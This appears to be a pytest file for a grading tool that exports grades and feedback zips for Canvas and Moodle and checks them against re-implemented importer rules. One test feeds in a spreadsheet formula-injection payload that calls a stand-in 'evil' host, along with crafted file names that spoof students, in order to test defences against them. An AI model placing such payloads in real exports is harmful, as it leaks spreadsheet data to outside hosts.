"""Grades and feedback for Canvas and Moodle (course.grading.term.results.lms), read back by the LMSs' own rules.

The two importers are re-implemented here from their source, as small readers that follow the
same steps: Canvas's ``GradebookImporter`` (canvas-lms ``app/models/gradebook_importer.rb``:
the header check, the student columns, the ``Points Possible`` row, ``Assignment.title_and_id``,
a student found by ID, then SIS User ID, then SIS Login ID, then name) and its re-upload of
feedback (``Assignment#infer_comment_context_from_filename``: the first two all-digit ``_``
parts are the user id and the attachment id); Moodle's ``gradeimport_csv_load_data`` (a user
found by the mapped field, a blank identifier keeping the previous row's user, ``-`` or empty
for no grade, the import stopped by an unknown user) and its feedback-zip import
(``assignfeedback_file_zip_importer::is_valid_filename_for_import``: the path part split on
``_`` into name, participant id, plugin type, plugin name).  The golden files in
``tests/data/lms/`` are what the course writes for the class below.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import struct
import zipfile
from pathlib import Path

import pytest

from course.grading.term.course_dir import WorkflowError
from course.grading.term.intake.lms_zip import ZipDatesUnknown, collect_zip, zip_utc_time
from course.grading.term.intake.roster import parse_roster
from course.grading.term.results import lms
from course.grading.term.results.lms import (CANVAS_STUDENT_COLUMNS, canvas_assignment_ids, canvas_csv,
                                        feedback_zip, grade_table, moodle_csv)
from test_grading_support import copy_course

DATA = Path(__file__).resolve().parent / "data" / "lms"
A1, A2 = "a1_minimax", "a2_alphabeta"

ROSTER = parse_roster(
    "id,first_name,last_name,email,lms_user_id,lms_names,sis_user_id,sis_login_id\n"
    "ada,Ada,Lovelace,ada@example.org,1234,lovelaceada,S1001,alovelace\n"
    "grace,Grace,Hopper,grace@example.org,4321,hopperg,S1002,ghopper\n"
    "alan,Alan,Turing,alan@example.org,,turinga,S1003,\n"
    "barbara,Barbara,Liskov,,5555,liskovb,,bliskov\n")
ROWS = [
    {"student": "ada", "assignment": A1, "score": 9.0, "max_score": 11.0},
    {"student": "ada", "assignment": A2, "score": 7.25, "max_score": 12.0},
    {"student": "grace", "assignment": A1, "score": 4.0, "max_score": 11.0},
    {"student": "grace", "assignment": A2, "score": 0.0, "max_score": 12.0},
    {"student": "alan", "assignment": A1, "score": 0.0, "max_score": 11.0},
    {"student": "alan", "assignment": A2, "score": 12.0, "max_score": 12.0},
    {"student": "barbara", "assignment": A1, "score": 8.1 + 0.1, "max_score": 11.0},
    {"student": "barbara", "assignment": A2, "score": 1 / 3, "max_score": 12.0},
]


# --------------------------------------------------------------------------- Canvas's importer

def canvas_import(text: str, users: list[dict], assignments: dict[int, str]) -> dict:
    """What Canvas's gradebook import makes of ``text`` (its steps, in its order).

    ``users``: Canvas's students (``id``, ``name``, ``sortable_name``, ``sis_user_id``,
    ``login``); ``assignments``: id -> title.  Returns ``{"grades": {(user id or
    "new:<name>", assignment id or "new:<title>"): grade}, "points": {...}}``.
    """
    sep = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
    rows = list(csv.reader(io.StringIO(text), delimiter=sep))
    header = rows[0]
    assert len(header) > 3 and "Student" in header[0] and "ID" in header[1], "Invalid header row"
    columns = 3
    sis_user = sis_login = None
    if re.search(r"SIS\s+Login\s+ID", header[2]):
        sis_login, columns = 2, 4
    elif re.search(r"SIS\s+User\s+ID", header[2]) and re.search(r"SIS\s+Login\s+ID", header[3]):
        sis_user, sis_login, columns = 2, 3, 5
    assert "Section" in header[columns - 1], "Invalid header row"
    found_assignments = {}
    for index, title in enumerate(header[columns:], columns):
        if re.search("Current Score|Final Score|Current Points|Final Points|Current Grade|Final Grade", title):
            continue
        match = re.match(r"\A(.*)\s\((\d+)\)\Z", title)          # Assignment.title_and_id
        key = int(match.group(2)) if match and int(match.group(2)) in assignments else None
        if key is None:
            key = next((i for i, t in assignments.items() if t == title), f"new:{title}")
        found_assignments[index] = key
    grades, points = {}, {}
    for row in rows[1:]:
        if not row or all(not c.strip() for c in row):
            continue
        if "Points Possible" in row[0]:
            points = {found_assignments[i]: row[i] for i in found_assignments}
            continue
        user = None
        if row[1].strip():
            user = next((u for u in users if str(u["id"]) == row[1].strip()), None)
        if user is None and sis_user is not None and row[sis_user]:
            user = next((u for u in users if u.get("sis_user_id") == row[sis_user]), None)
        if user is None and sis_login is not None and row[sis_login]:
            user = next((u for u in users if u.get("login") == row[sis_login]), None)
        if user is None:
            user = next((u for u in users if row[0] in (u["name"], u["sortable_name"])), None)
        key = user["id"] if user else f"new:{row[0]}"
        for index, assignment in found_assignments.items():
            grades[(key, assignment)] = row[index].strip()
    return {"grades": grades, "points": points}


CANVAS_USERS = [
    {"id": 1234, "name": "Ada Lovelace", "sortable_name": "Lovelace, Ada", "sis_user_id": "S1001",
     "login": "alovelace"},
    {"id": 4321, "name": "Grace Hopper", "sortable_name": "Hopper, Grace", "sis_user_id": "S1002",
     "login": "ghopper"},
    {"id": 7001, "name": "Alan Turing", "sortable_name": "Turing, Alan", "sis_user_id": "S1003",
     "login": "aturing"},
    {"id": 5555, "name": "Barbara Liskov", "sortable_name": "Liskov, Barbara", "sis_user_id": "",
     "login": "bliskov"},
]
CANVAS_ASSIGNMENTS = {9001: "A1 Minimax", 9002: "A2 Alpha-beta"}
BY_STUDENT = {"ada": 1234, "grace": 4321, "alan": 7001, "barbara": 5555}


def test_canvas_csv_matches_the_golden_file_and_canvas_reads_every_grade():
    table = grade_table(ROWS)
    text, left_out = canvas_csv(table, ROSTER, assignment_ids={A1: "9001", A2: "9002"})
    assert left_out == []
    assert text == (DATA / "canvas_grades.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0][:5]) == CANVAS_STUDENT_COLUMNS == (
        "Student", "ID", "SIS User ID", "SIS Login ID", "Section")
    assert rows[0][5:] == ["a1_minimax (9001)", "a2_alphabeta (9002)"]
    assert rows[1][0].strip() == "Points Possible" and rows[1][5:] == ["11", "12"]
    imported = canvas_import(text, CANVAS_USERS, CANVAS_ASSIGNMENTS)
    assert imported["points"] == {9001: "11", 9002: "12"}
    for row in ROWS:                 # every student found, each grade in its assignment, 2 decimals
        assignment = 9001 if row["assignment"] == A1 else 9002
        got = imported["grades"][(BY_STUDENT[row["student"]], assignment)]
        assert float(got) == pytest.approx(round(row["score"], 2)), row
    assert not any(str(k[0]).startswith("new:") or str(k[1]).startswith("new:") for k in imported["grades"])


def test_canvas_finds_each_student_by_the_strongest_id_the_roster_has():
    table = grade_table(ROWS)
    text, _ = canvas_csv(table, ROSTER)
    rows = {r[0]: r for r in csv.reader(io.StringIO(text))}
    assert rows["Lovelace, Ada"][1:4] == ["1234", "S1001", "alovelace"]
    assert rows["Turing, Alan"][1:4] == ["", "S1003", ""]          # no lms_user_id: SIS User ID
    assert rows["Liskov, Barbara"][1:4] == ["5555", "", "bliskov"]
    # without the ids, the columns are named as the assignments: Canvas matches exact titles or
    # offers to create them
    imported = canvas_import(text, CANVAS_USERS, CANVAS_ASSIGNMENTS)
    assert {k[1] for k in imported["grades"]} == {"new:a1_minimax", "new:a2_alphabeta"}
    assert {k[0] for k in imported["grades"]} == set(BY_STUDENT.values())


def test_canvas_assignment_ids_come_from_a_gradebook_export(tmp_path):
    export = tmp_path / "export.csv"
    export.write_text("\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,A1 Minimax (9001),"
                      "a2 alphabeta (9002),A2 Alphabeta (9003),Current Score\n"
                      "    Points Possible,,,,,11,12,12,(read only)\n", encoding="utf-8")
    # "a2 alphabeta" and "A2 Alphabeta" are the same name: two columns, no id (never a guess)
    assert canvas_assignment_ids(export, [A1, A2]) == {A1: "9001"}


def test_a_roster_name_cannot_become_a_spreadsheet_formula():
    hostile = parse_roster(
        'id,first_name,last_name,lms_user_id,email\n'
        'ada,"=HYPERLINK(""http://evil/?""&A1;""x"")",@SUM(A1),1234,ada@example.org\n'
        'grace,"+1",-2,4321,grace@example.org\n'
        'alan,"Al\nan","Tu,ring""",7001,=cmd@example.org\n')
    table = grade_table([{"student": s, "assignment": A1, "score": 1.0, "max_score": 11.0}
                         for s in ("ada", "grace", "alan")])
    for text, _ in (canvas_csv(table, hostile), moodle_csv(table, hostile)):
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
                assert "\n" not in cell and "\r" not in cell
    text, left_out = canvas_csv(table, hostile)
    imported = canvas_import(text, CANVAS_USERS, CANVAS_ASSIGNMENTS)
    assert {k[0] for k in imported["grades"]} == {1234, 4321, 7001}       # found by ID all the same
    text, left_out = moodle_csv(table, hostile)
    assert ("alan", "its email '=cmd@example.org' would start a spreadsheet formula") in left_out


def test_without_the_defence_the_hostile_name_is_a_formula(monkeypatch):
    """The attack, shown to work: with spreadsheet_text as the identity, a name is a formula."""
    monkeypatch.setattr(lms, "spreadsheet_text", lambda text: str(text))
    hostile = parse_roster('id,first_name,last_name,lms_user_id\nada,x,"=1+1",1234\n')
    table = grade_table([{"student": "ada", "assignment": A1, "score": 1.0, "max_score": 11.0}])
    text, _ = canvas_csv(table, hostile)
    assert any(cell.startswith("=") for row in csv.reader(io.StringIO(text)) for cell in row)


# --------------------------------------------------------------------------- Moodle's importer

def moodle_import(text: str, users: list[dict], field: str, mapping: dict[str, int]) -> dict:
    """What Moodle's CSV grade import makes of ``text``: identifier column 0 mapped to ``field``
    (``email``, ``idnumber``, ``username``, ``id``), ``mapping`` header -> grade item id.  Follows
    ``prepare_import_grade_data``: the user of a row is kept from the previous row when the row's
    identifier is empty; an unknown identifier stops the whole import."""
    rows = list(csv.reader(io.StringIO(text)))
    header = [h.strip() for h in rows[0]]
    grades, student = {}, None
    for line in rows[1:]:
        if len(line) <= 1:
            continue
        value = line[0].strip()
        if value:
            user = next((u for u in users if str(u.get(field, "")) == value), None)
            if user is None:
                raise LookupError(f"user mapping error: no user with {field} {value!r}: import stopped")
            student = user["id"]
        if student is None:
            raise LookupError("no user mapping: import stopped")
        for name, cell in zip(header[1:], line[1:]):
            cell = cell.strip()
            if name in mapping:
                grades[(student, mapping[name])] = None if cell in ("", "-") else float(cell.replace(",", "."))
    return grades


MOODLE_USERS = [{"id": 11, "email": "ada@example.org", "idnumber": "S1001", "username": "alovelace"},
                {"id": 12, "email": "grace@example.org", "idnumber": "S1002", "username": "ghopper"},
                {"id": 13, "email": "alan@example.org", "idnumber": "S1003", "username": "aturing"},
                {"id": 14, "email": "barbara@example.org", "idnumber": "", "username": "bliskov"}]


@pytest.mark.parametrize("identifier, field, header", [("email", "email", "Email address"),
                                                       ("idnumber", "idnumber", "ID number"),
                                                       ("username", "username", "Username")])
def test_moodle_csv_is_read_by_moodles_rules(identifier, field, header):
    table = grade_table(ROWS)
    text, left_out = moodle_csv(table, ROSTER, identifier=identifier)
    if identifier == "email":
        assert text == (DATA / "moodle_grades.csv").read_text(encoding="utf-8")
    assert text.splitlines()[0] == f"{header},{A1},{A2}"
    imported = moodle_import(text, MOODLE_USERS, field, {A1: 501, A2: 502})
    ids = {u[field]: u["id"] for u in MOODLE_USERS if u[field]}
    written = set()
    for row in ROWS:
        student = ROSTER.get(row["student"])
        key = {"email": student.email, "idnumber": student.sis_user_id, "username": student.sis_login_id}[identifier]
        if not key:
            assert row["student"] in {w for w, _ in left_out}
            continue
        written.add(row["student"])
        got = imported[(ids[key], 501 if row["assignment"] == A1 else 502)]
        assert got == pytest.approx(round(row["score"], 2))
    assert len(imported) == 2 * len(written)


def test_a_blank_moodle_identifier_would_file_grades_under_the_previous_student():
    """Why a student without the identifier is left out: Moodle keeps the previous row's user."""
    naive = f"Email address,{A1}\nada@example.org,9\n,0\n"          # the second row: no email
    assert moodle_import(naive, MOODLE_USERS, "email", {A1: 501}) == {(11, 501): 0.0}  # ada's 9 lost
    roster = parse_roster("id,email\nada,ada@example.org\nalan,\n")
    table = grade_table([{"student": s, "assignment": A1, "score": 9.0 if s == "ada" else 0.0,
                          "max_score": 11.0} for s in ("ada", "alan")])
    text, left_out = moodle_csv(table, roster)
    assert [w for w, _ in left_out] == ["alan"]
    assert moodle_import(text, MOODLE_USERS, "email", {A1: 501}) == {(11, 501): 9.0}


def test_two_students_with_one_identifier_are_both_left_out():
    roster = parse_roster("id,email\nada,ada@example.org\nmallory,ADA@example.org\ngrace,grace@example.org\n")
    table = grade_table([{"student": s, "assignment": A1, "score": 1.0, "max_score": 11.0}
                         for s in ("ada", "mallory", "grace")])
    text, left_out = moodle_csv(table, roster)
    assert sorted(w for w, _ in left_out) == ["ada", "mallory"]
    assert text.splitlines()[1:] == ["grace@example.org,1"]


def test_moodle_stops_at_an_unknown_identifier_so_none_is_written():
    roster = parse_roster("id,email\nada,ada@example.org\n")
    table = grade_table([{"student": "ada", "assignment": A1, "score": 1.0, "max_score": 11.0},
                         {"student": "ghost", "assignment": A1, "score": 1.0, "max_score": 11.0}])
    text, left_out = moodle_csv(table, roster)       # ghost: not on the roster, so no email
    assert [w for w, _ in left_out] == ["ghost"]
    moodle_import(text, MOODLE_USERS, "email", {A1: 501})     # does not stop


def test_the_roster_refuses_a_sis_id_shared_by_two_students():
    from course.grading.term.intake.roster import RosterError

    with pytest.raises(RosterError, match="sis_login_id 'ALOVELACE' is also the one of 'ada'"):
        parse_roster("id,sis_login_id\nada,alovelace\nmallory,ALOVELACE\n")


# --------------------------------------------------------------------------- feedback zips

def moodle_feedback_target(entry: str, participants: dict[int, str]) -> tuple[str, str] | None:
    """``(student, file name)`` Moodle files a feedback-zip entry under, or None (ignored):
    ``is_valid_filename_for_import``'s steps."""
    parts = entry.split("/")
    if parts[-1].startswith((".", "~")):
        return None
    while parts:
        info = parts.pop(0).split("_", 4)
        if len(info) < 4 or not info[1].isdigit() or int(info[1]) not in participants:
            continue
        if (info[2], info[3]) != ("assignsubmission", "file"):
            continue
        rest = [info[4] if len(info) > 4 else ""] + parts
        return participants[int(info[1])], "/".join(rest).lstrip("/")
    return None


def canvas_feedback_target(entry: str) -> tuple[int, int] | None:
    """``(user id, attachment id)`` of a re-uploaded file, as Canvas infers them (or None)."""
    name = entry.rsplit("/", 1)[-1]
    numbers = [p for p in name.split("_") if re.fullmatch(r"\d+", p)][:2]
    if len(numbers) < 2 or name.startswith("._") or name.split("_")[-1].startswith("link"):
        return None
    return int(numbers[0]), int(numbers[1])


@pytest.fixture
def course(tmp_path):
    root = copy_course(tmp_path / "course")
    (root / "roster.csv").write_text(
        "id,first_name,last_name,email,lms_user_id,lms_names\n"
        "ada,Ada,Lovelace,ada@example.org,1234,lovelaceada\n"
        "grace,Grace,Hopper,grace@example.org,4321,hopperg\n"
        "student_01,,,s01@example.org,,s01\n"
        "alan,Alan,Turing,,,turinga\n", encoding="utf-8")
    for who in ("ada", "grace", "student_01", "alan"):
        folder = root / "feedback" / who / A1
        folder.mkdir(parents=True)
        (folder / "minimax.html").write_text(f"<html><body>feedback of {who}</body></html>", encoding="utf-8")
    return root


def _download(path: Path, names: list[str]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 1, 12, 0, 0)), b"{}")
    return path


def test_moodle_feedback_zip_puts_each_students_page_in_their_own_folder(course, tmp_path):
    download = _download(tmp_path / "moodle.zip", [
        "Ada Lovelace_101_assignsubmission_file_/minimax.ipynb",
        "Grace Hopper_102_assignsubmission_file_/Minimax (1).ipynb",
        "student_01_103_assignsubmission_file_/minimax.ipynb",     # Moodle's name for a nameless one
        "Nobody Known_104_assignsubmission_file_/minimax.ipynb",
    ])
    packed = feedback_zip(course, A1, lms="moodle", submissions_zip=download, output=tmp_path / "fb.zip")
    participants = {101: "ada", 102: "grace", 103: "student_01", 104: "nobody"}
    with zipfile.ZipFile(packed.path) as archive:
        names = archive.namelist()
        targets = {n: moodle_feedback_target(n, participants) for n in names}
        bodies = {n: archive.read(n).decode() for n in names}
    assert sorted(names) == ["Ada Lovelace_101_assignsubmission_file_/minimax.html",
                             "Grace Hopper_102_assignsubmission_file_/minimax.html",
                             "student 01_103_assignsubmission_file_/minimax.html"]
    for name, (student, filename) in targets.items():
        assert filename == "minimax.html"
        assert bodies[name] == f"<html><body>feedback of {student}</body></html>"   # only their own page
    assert sorted(s for s, _ in targets.values()) == ["ada", "grace", "student_01"]
    assert [w for w, _ in packed.left_out] == ["alan"]       # no folder of alan's in the download


def test_a_student_id_with_an_underscore_never_shifts_the_participant_id(course, tmp_path):
    download = _download(tmp_path / "moodle.zip", ["s01_777_assignsubmission_file_/minimax.ipynb"])
    packed = feedback_zip(course, A1, lms="moodle", submissions_zip=download, output=tmp_path / "fb.zip")
    (entry,) = [n for _, n in packed.files]
    assert "_" not in entry.split("_777_")[0]                 # "student 01", never "student_01"
    assert moodle_feedback_target(entry, {777: "student_01", 1: "mallory"}) == ("student_01", "minimax.html")


def test_two_moodle_folders_for_one_student_send_their_feedback_nowhere(course, tmp_path):
    """Mallory renames herself Ada Lovelace in Moodle: two folders read as Ada's."""
    download = _download(tmp_path / "moodle.zip", [
        "Ada Lovelace_101_assignsubmission_file_/minimax.ipynb",
        "Ada Lovelace_666_assignsubmission_file_/minimax.ipynb",
        "Grace Hopper_102_assignsubmission_file_/minimax.ipynb"])
    packed = feedback_zip(course, A1, lms="moodle", submissions_zip=download, output=tmp_path / "fb.zip")
    assert sorted(w for w, _ in packed.files) == ["grace"]
    assert "2 participant ids" in dict(packed.left_out)["ada"]


def test_canvas_feedback_zip_is_named_as_canvas_re_upload_reads_it(course, tmp_path):
    download = _download(tmp_path / "canvas.zip", [
        "lovelaceada_1234_88001_minimax.ipynb",
        "hopperg_LATE_4321_88002_minimax (1).ipynb",
        "s01_999_88003_minimax.ipynb",                   # no lms_user_id in the roster
        "turinga_7001_88004_minimax.ipynb"])             # no lms_user_id either
    packed = feedback_zip(course, A1, lms="canvas", submissions_zip=download, output=tmp_path / "fb.zip")
    with zipfile.ZipFile(packed.path) as archive:
        found = {canvas_feedback_target(n): archive.read(n).decode() for n in archive.namelist()}
    assert found == {(1234, 88001): "<html><body>feedback of ada</body></html>",
                     (4321, 88002): "<html><body>feedback of grace</body></html>"}
    left = dict(packed.left_out)
    assert set(left) == {"student_01", "alan"} and "no lms_user_id" in left["alan"]


def test_canvas_feedback_is_never_sent_to_a_user_id_the_roster_does_not_vouch_for(course, tmp_path):
    """A crafted name: Ada's login with another user's number."""
    download = _download(tmp_path / "canvas.zip", ["lovelaceada_6666_88001_minimax.ipynb"])
    packed = feedback_zip(course, A1, lms="canvas", submissions_zip=download, output=tmp_path / "fb.zip")
    assert packed.path is None and packed.files == []
    assert "ada" not in {w for w, _ in packed.files}


def test_feedback_zip_refuses_an_unknown_assignment_or_lms(course, tmp_path):
    download = _download(tmp_path / "d.zip", ["lovelaceada_1234_1_minimax.ipynb"])
    with pytest.raises(WorkflowError, match="unknown assignment"):
        feedback_zip(course, "a9_nothing", lms="canvas", submissions_zip=download)
    with pytest.raises(WorkflowError, match="unknown LMS"):
        feedback_zip(course, A1, lms="blackboard", submissions_zip=download)


# --------------------------------------------------------------------------- zip dates

NB = json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _dated_zip(path: Path, entries) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, when, utc in entries:
            info = zipfile.ZipInfo(name, when)
            if utc is not None:
                seconds = int(utc.replace(tzinfo=dt.timezone.utc).timestamp())
                info.extra = struct.pack("<HHBl", 0x5455, 5, 1, seconds)
            archive.writestr(info, NB)
    return path


def _stamp(out: Path, student: str) -> str | None:
    path = out / student / A1 / "timestamp.txt"
    return path.read_text().strip() if path.exists() else None


def test_moodle_dates_without_a_zone_are_refused_and_nothing_is_written(course, tmp_path):
    archive = _dated_zip(tmp_path / "m.zip", [
        ("Ada Lovelace_101_assignsubmission_file_/minimax.ipynb", (2026, 3, 2, 17, 30, 0), None)])
    with pytest.raises(ZipDatesUnknown, match="--timezone"):
        collect_zip(archive, tmp_path / "out", root=course, assignment=A1)
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_a_moodle_server_in_berlin_is_read_in_berlin_time(course, tmp_path):
    """17:30 in Berlin (winter, UTC+1) is 16:30 UTC: before a 17:00 UTC due date.  Read as UTC
    (the zip import before --timezone), it was 30 minutes late."""
    archive = _dated_zip(tmp_path / "m.zip", [
        ("Ada Lovelace_101_assignsubmission_file_/minimax.ipynb", (2026, 3, 2, 17, 30, 0), None),
        ("Grace Hopper_102_assignsubmission_file_/minimax.ipynb", (2026, 7, 1, 17, 30, 0), None)])
    out = tmp_path / "out"
    collect_zip(archive, out, root=course, assignment=A1, timezone="Europe/Berlin")
    assert _stamp(out, "ada") == "2026-03-02 16:30:00"
    assert _stamp(out, "grace") == "2026-07-01 15:30:00"            # summer time: UTC+2


def test_an_exact_utc_field_wins_over_the_zone(course, tmp_path):
    archive = _dated_zip(tmp_path / "m.zip", [
        ("Ada Lovelace_101_assignsubmission_file_/minimax.ipynb", (2026, 3, 2, 17, 30, 0),
         dt.datetime(2026, 3, 2, 16, 30, 0))])
    out = tmp_path / "out"
    collect_zip(archive, out, root=course, assignment=A1)          # no zone needed
    assert _stamp(out, "ada") == "2026-03-02 16:30:00"
    with zipfile.ZipFile(archive) as z:
        assert zip_utc_time(z.infolist()[0]) == dt.datetime(2026, 3, 2, 16, 30, 0)


def test_canvas_zips_are_filed_without_a_time_and_late_files_are_named(course, tmp_path):
    out = tmp_path / "out"
    old = out / "ada" / A1
    old.mkdir(parents=True)
    (old / "minimax.ipynb").write_text("{}")
    (old / "timestamp.txt").write_text("2026-11-30 10:00:00\n")
    archive = _dated_zip(tmp_path / "c.zip", [
        ("lovelaceada_1234_88001_minimax.ipynb", (2026, 11, 20, 8, 0, 0), None),
        ("hopperg_LATE_4321_88002_minimax.ipynb", (2026, 11, 20, 8, 0, 0), None)])
    lines = []
    done = collect_zip(archive, out, root=course, assignment=A1, log=lines.append)
    assert _stamp(out, "ada") is None and _stamp(out, "grace") is None     # the old time is gone too
    assert any("Canvas marked 1 late: 'hopperg_LATE_4321_88002_minimax.ipynb'" in n for n in done.notes)
    assert any("taken as the latest" in line for line in lines)


def test_timezone_none_and_local_and_a_bad_zone(course, tmp_path, monkeypatch):
    archive = _dated_zip(tmp_path / "p.zip", [("ada/a1_minimax/minimax.ipynb", (2026, 3, 2, 17, 30, 0), None)])
    out = tmp_path / "out"
    collect_zip(archive, out, root=course, timezone="none")
    assert _stamp(out, "ada") is None
    monkeypatch.setenv("TZ", "America/New_York")
    import time

    time.tzset()
    try:
        collect_zip(archive, tmp_path / "out2", root=course, timezone="local")
        assert _stamp(tmp_path / "out2", "ada") == "2026-03-02 22:30:00"
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()
    with pytest.raises(WorkflowError, match="unknown time zone 'Mars/Base'"):
        collect_zip(archive, out, root=course, timezone="Mars/Base")


def test_the_command_says_how_to_give_the_zone(course, tmp_path, capsys):
    from course.grading.__main__ import main

    archive = _dated_zip(tmp_path / "m.zip", [
        ("Ada Lovelace_101_assignsubmission_file_/minimax.ipynb", (2026, 3, 2, 17, 30, 0), None)])
    assert main(["--root", str(course), "collect-zip", str(archive), "--submissions", str(tmp_path / "o")]) == 2
    assert "give --timezone ZONE" in capsys.readouterr().err
    assert main(["--root", str(course), "collect-zip", str(archive), "--submissions", str(tmp_path / "o"),
                 "--timezone", "Europe/Berlin", "--assignment", A1]) == 1    # alan etc. sent nothing
    assert (tmp_path / "o" / "ada" / A1 / "timestamp.txt").read_text().strip() == "2026-03-02 16:30:00"


# --------------------------------------------------------------------------- a renamed notebook

def test_a_renamed_notebook_is_refused_with_the_way_to_file_it(course, tmp_path):
    archive = _dated_zip(tmp_path / "c.zip", [("lovelaceada_1234_88001_my answers.ipynb", (2026, 11, 2, 9, 0, 0), None)])
    done = collect_zip(archive, tmp_path / "out", root=course, assignment=A1)
    assert done.refused == [("lovelaceada_1234_88001_my answers.ipynb", "not a notebook of a1_minimax")]
    assert "--file-as" in done.warning() and "troubleshooting.md" in done.warning()
    done = collect_zip(archive, tmp_path / "out", root=course, assignment=A1,
                       file_as={"lovelaceada_1234_88001_my answers.ipynb": "minimax.ipynb"})
    assert [c[:3] for c in done.collected] == [("ada", A1, "minimax.ipynb")]
    assert done.recognised == [("lovelaceada_1234_88001_my answers.ipynb", "minimax.ipynb")]
    with pytest.raises(WorkflowError, match="'notes.ipynb' is not a notebook of a1_minimax"):
        collect_zip(archive, tmp_path / "out", root=course, assignment=A1,
                    file_as={"lovelaceada_1234_88001_my answers.ipynb": "notes.ipynb"})


def test_file_as_never_changes_whose_file_it_is(course, tmp_path):
    """--file-as names the notebook; the student still comes from the LMS's part of the name."""
    archive = _dated_zip(tmp_path / "c.zip", [("hopperg_4321_88002_lovelaceada_1234_1_x.ipynb",
                                               (2026, 11, 2, 9, 0, 0), None)])
    done = collect_zip(archive, tmp_path / "out", root=course, assignment=A1,
                       file_as={"hopperg_4321_88002_lovelaceada_1234_1_x.ipynb": "minimax.ipynb"})
    assert [c[0] for c in done.collected] == ["grace"]


def test_autograde_names_the_renamed_notebook_it_did_not_grade(tmp_path):
    from course.grading.term.intake.repair import describe, repair_submission

    release = tmp_path / "release"
    release.mkdir()
    (release / "minimax.ipynb").write_text(json.dumps({"cells": [], "metadata": {}, "nbformat": 4,
                                                       "nbformat_minor": 5}))
    stage = tmp_path / "stage"
    stage.mkdir()
    (stage / "Minimax copy.ipynb").write_text("{}")
    lines = list(describe(repair_submission(stage, release)))
    assert lines == ["minimax.ipynb was not submitted: 0 points (the submission holds 'Minimax copy.ipynb': "
                     "if that is minimax.ipynb renamed, see docs/instructor/troubleshooting.md, "
                     "\"A renamed notebook\")"]


# --------------------------------------------------------------------------- the example class, end to end

@pytest.fixture(scope="module")
def example(tmp_path_factory):
    """The example class, its roster given the LMS's ids, autograded, with feedback."""
    import contextlib

    from course.grading.__main__ import main
    from course.grading.term.example_class import example_class

    root = example_class(tmp_path_factory.mktemp("lms") / "class")
    (root / "roster.csv").write_text(
        "id,first_name,last_name,email,lms_user_id,lms_names\n"
        "ada,Ada,Lovelace,ada@example.org,1234,lovelaceada\n"
        "grace,Grace,Hopper,grace@example.org,4321,hopperg\n"
        "alan,Alan,Turing,alan@example.org,7001,turinga\n"
        "barbara,Barbara,Liskov,barbara@example.org,5555,liskovb\n", encoding="utf-8")
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert main(["--root", str(root), "autograde", "--jobs", "2"]) == 0, out.getvalue()
        main(["--root", str(root), "feedback"])
    return root


@pytest.mark.nbgrader
def test_the_lms_files_carry_the_numbers_of_grades_csv(example, tmp_path, capsys):
    from course.grading.__main__ import main

    root = example
    assert main(["--root", str(root), "grades", "--output", str(tmp_path / "grades.csv")]) == 0
    assert main(["--root", str(root), "grades", "--format", "canvas", "--assignment-id", f"{A1}=9001",
                 "--output", str(tmp_path / "canvas.csv")]) == 0
    assert main(["--root", str(root), "grades", "--format", "moodle", "--output", str(tmp_path / "moodle.csv")]) == 0
    with open(tmp_path / "grades.csv", encoding="utf-8") as handle:
        expected = {r["student"]: float(r["score"]) for r in csv.DictReader(handle) if r["assignment"] == A1}
    assert expected["barbara"] < expected["ada"]              # the late penalty is in the score
    canvas = canvas_import((tmp_path / "canvas.csv").read_text(), CANVAS_USERS, CANVAS_ASSIGNMENTS)
    assert {s: float(canvas["grades"][(BY_STUDENT[s], 9001)])
            for s in expected} == pytest.approx(expected)
    moodle = moodle_import((tmp_path / "moodle.csv").read_text(), MOODLE_USERS + [
        {"id": 14, "email": "barbara@example.org"}], "email", {A1: 501})
    emails = {"ada": 11, "grace": 12, "alan": 13, "barbara": 14}
    assert {s: moodle[(emails[s], 501)] for s in expected} == pytest.approx(expected)


@pytest.mark.nbgrader
def test_the_example_class_feedback_goes_back_through_moodle(example, tmp_path, capsys):
    from course.grading.__main__ import main

    download = _download(tmp_path / "moodle.zip", [
        f"{name}_{pid}_assignsubmission_file_/minimax.ipynb"
        for name, pid in (("Ada Lovelace", 31), ("Grace Hopper", 32), ("Alan Turing", 33), ("Barbara Liskov", 34))])
    status = main(["--root", str(example), "feedback-zip", A1, "--lms", "moodle", "--from-zip", str(download),
                   "--output", str(tmp_path / "fb.zip")])
    assert status == 0, capsys.readouterr()
    participants = {31: "ada", 32: "grace", 33: "alan", 34: "barbara"}
    with zipfile.ZipFile(tmp_path / "fb.zip") as archive:
        for name in archive.namelist():
            student, filename = moodle_feedback_target(name, participants)
            assert archive.read(name) == (example / "feedback" / student / A1 / filename).read_bytes()
        assert len(archive.namelist()) == 4


def test_the_grades_command_refuses_a_bad_assignment_id(course, tmp_path, capsys):
    from course.grading.__main__ import main

    assert main(["--root", str(course), "grades", "--format", "canvas", "--assignment-id", "a1_minimax",
                 "--output", str(tmp_path / "c.csv")]) == 2
    assert "--assignment-id takes ASSIGNMENT=ID" in capsys.readouterr().err
